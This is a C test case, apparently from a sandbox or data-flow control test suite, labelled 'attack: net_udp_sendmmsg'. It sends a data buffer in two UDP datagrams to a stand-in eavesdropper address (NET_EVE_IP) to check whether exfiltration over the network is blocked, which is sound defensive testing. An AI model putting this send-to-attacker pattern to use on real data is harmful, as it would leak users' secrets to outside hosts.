// SPDX-License-Identifier: GPL-3.0-or-later
/* Several datagrams in one call, to one address. */
#include "flow-net.h"

static int put(void)
{
	struct net_addr a[2] = { net_at(NET_EVE_IP, FLOW_PORT), net_at(NET_EVE_IP, FLOW_PORT) };
	struct iovec iov = { flow.text, flow.len };
	struct mmsghdr msg[2] = { 0 };

	for (int i = 0; i < 2; i++)
		msg[i].msg_hdr = (struct msghdr){ .msg_name = &a[i].at,
						  .msg_namelen = a[i].len,
						  .msg_iov = &iov,
						  .msg_iovlen = 1 };
	int sent = sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), msg, 2, 0);
	return sent == 1 ? -EPERM : flow_result(sent);
}

FLOW("attack: net_udp_sendmmsg; threat: #70; op: send; door: network", .make = make_udp, .put = put,
     .get = get_net);
